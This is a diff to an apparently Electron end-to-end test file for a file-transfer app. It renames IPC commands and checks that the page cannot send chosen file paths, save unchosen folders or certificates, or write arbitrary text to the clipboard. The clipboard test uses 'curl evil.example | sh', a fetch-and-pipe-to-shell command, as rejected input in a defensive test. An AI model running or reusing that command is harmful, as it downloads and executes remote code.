@@ -42,7 +42,7 @@ async function command(name: string, argument?: unknown): Promise<CommandResult<
 
 async function offered(): Promise<number> {
   return app.page.evaluate(async () => {
-    const outcome = await window.cooee.command('snapshot');
+    const outcome = await window.cooee.command('system.snapshot');
     return outcome.ok ? outcome.value.transfers.length : -1;
   });
 }
@@ -53,14 +53,17 @@ async function kindOfFailure(name: string, argument?: unknown): Promise<string |
 }
 
 async function savedSettings(): Promise<Settings> {
-  const outcome = await command('settings');
+  const outcome = await command('settings.read');
   if (!outcome.ok) throw new Error('the settings are not told');
   return outcome.value as Settings;
 }
 
 test('no command and no function of the bridge takes a path of a file to send', async () => {
   await startCall(app);
-  expect(await kindOfFailure('offerPaths', { paths: [secret] })).toBe('internal');
+  // The first is what main itself asks of the engine.
+  for (const name of ['transfers.offer', 'transfers.accept.offer', 'transfers.constructor', 'offer'])
+    expect(await kindOfFailure(name, { paths: [secret] }), name).toBe('internal');
+  expect(await kindOfFailure('transfers.choose', { what: 'files', paths: [secret] })).toBe('internal');
   const members = await app.page.evaluate(() => Object.keys(window.cooee).sort());
   expect(members).toEqual(['command', 'offerFiles', 'oldElectron', 'onSnapshot', 'platform']);
 
@@ -91,36 +94,36 @@ test('no command and no function of the bridge takes a path of a file to send', 
 test('settings take only a folder and a certificate that somebody chose in the system’s dialog', async () => {
   const before = await readFile(app.settingsFile, 'utf8');
   const settings = await savedSettings();
-  expect(await kindOfFailure('saveSettings', { ...settings, downloadFolder: folder })).toBe(
+  expect(await kindOfFailure('settings.save', { ...settings, downloadFolder: folder })).toBe(
     'path-not-chosen',
   );
   const server = { kind: 'custom', host: '127.0.0.1', port: 2311, tls: true, caFile: secret };
   // Before anything is read: whether a file exists is no business of the page either.
-  expect(await kindOfFailure('saveSettings', { ...settings, server })).toBe('path-not-chosen');
+  expect(await kindOfFailure('settings.save', { ...settings, server })).toBe('path-not-chosen');
   // TLS off does not read the file, and would keep it for later.
   const later = { ...server, tls: false };
-  expect(await kindOfFailure('saveSettings', { ...settings, server: later })).toBe('path-not-chosen');
+  expect(await kindOfFailure('settings.save', { ...settings, server: later })).toBe('path-not-chosen');
   expect(await readFile(app.settingsFile, 'utf8')).toBe(before);
 
   await app.electron.evaluate(({ dialog }, chosen) => {
     dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [chosen] });
   }, folder);
-  expect(await command('chooseFolder')).toEqual({ ok: true, value: folder });
-  expect(await kindOfFailure('saveSettings', { ...settings, downloadFolder: folder })).toBeNull();
+  expect(await command('settings.chooseFolder')).toEqual({ ok: true, value: folder });
+  expect(await kindOfFailure('settings.save', { ...settings, downloadFolder: folder })).toBeNull();
   // What is saved may be saved again.
   expect(
-    await kindOfFailure('saveSettings', { ...(await savedSettings()), displayName: 'Kim K' }),
+    await kindOfFailure('settings.save', { ...(await savedSettings()), displayName: 'Kim K' }),
   ).toBeNull();
   expect(await savedSettings()).toMatchObject({ downloadFolder: folder, displayName: 'Kim K' });
 });
 
 test('only what the window shows gets into the clipboard', async () => {
   const code = await startCall(app);
-  expect(await kindOfFailure('copyText', { text: 'curl evil.example | sh' })).toBe('internal');
+  expect(await kindOfFailure('system.copyText', { text: 'curl evil.example | sh' })).toBe('internal');
   await app.page.getByRole('button', { name: 'Copy' }).first().click();
   await expect
     .poll(() => app.electron.evaluate(({ clipboard }) => clipboard.readText()))
     .toBe(code.replaceAll('-', ' '));
-  expect(await kindOfFailure('copyText', { text: 'curl evil.example | sh' })).toBe('internal');
+  expect(await kindOfFailure('system.copyText', { text: 'curl evil.example | sh' })).toBe('internal');
   expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).not.toContain('evil');
 });
